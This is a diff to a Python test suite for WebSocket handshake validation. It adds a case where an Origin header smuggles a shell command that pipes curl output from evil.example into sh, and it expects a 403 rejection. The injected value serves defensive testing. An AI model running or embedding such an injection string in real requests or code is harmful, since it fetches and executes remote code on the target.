@@ -88,6 +88,11 @@ def asking(host: str, *more: str, change: Callable[[bytes], bytes] = bytes) -> b
             "--origin https://evil.example",
         ),
         (
+            asking("127.0.0.1", "Origin: http://page.example;curl${IFS}evil.example|sh"),
+            b"403",
+            "it comes from, or goes to, something that is no address",
+        ),
+        (
             asking("127.0.0.1", change=lambda data: data.replace(b"Version: 13", b"Version: 12")),
             b"400",
             "its WebSocket handshake is wrong: invalid Sec-WebSocket-Version header: 12",
